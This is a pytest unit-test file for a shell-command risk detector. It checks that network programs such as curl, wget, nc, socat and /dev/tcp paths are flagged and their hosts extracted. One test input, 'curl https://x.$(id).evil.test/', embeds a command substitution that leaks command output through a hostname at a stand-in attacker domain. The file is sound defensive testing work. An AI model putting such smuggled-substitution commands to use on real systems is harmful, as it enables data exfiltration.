"""Programs that reach the network."""

from __future__ import annotations

import pytest

from riskproof.detect.commands_network import socket_host
from riskproof.detect.shell import analyse
from tests.unit.detect.reading import NETWORK, categories


@pytest.mark.parametrize(
    "text", ["curl x", "wget x", "nc -l 1", "scp a h:", "sftp h", "ftp h", "rsync a b", "ssh h", "telnet h", "socat - TCP:h:1"]
)
def test_a_network_program_is_seen(text: str) -> None:
    assert categories(text) == [NETWORK]


@pytest.mark.parametrize("text", ["ssh-keygen -t ed25519", "pip install x", "cat curl.txt", "echo wget"])
def test_a_name_that_only_looks_like_one_is_not(text: str) -> None:
    assert categories(text) == []


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ('curl "$URL"', ()),
        ("curl https://$HOST/x", ()),
        ("curl https://a.test/$X", ("https://a.test/$X",)),
        ("curl https://x.$(id).evil.test/", ("https://evil.test",)),
        ("https_proxy=http://p.test curl https://a.test", ("https://a.test", "http://p.test")),
        ("env https_proxy=http://p.test curl https://a.test", ("http://p.test", "https://a.test")),
        ("export https_proxy=http://p.test; curl https://a.test", ("https://a.test", "http://p.test")),
        ("aws s3 cp a s3://b", ("s3.amazonaws.com",)),
        ("aws s3 cp s3://b a", ()),
    ],
)
def test_a_host_that_is_not_known_is_not_made_up(text: str, hosts: tuple[str, ...]) -> None:
    assert analyse(text).hosts == hosts


def test_a_socket_path_names_a_host() -> None:
    assert [socket_host(path) for path in ("/dev/tcp/h.test/80", "/dev/null")] == ["h.test", None]
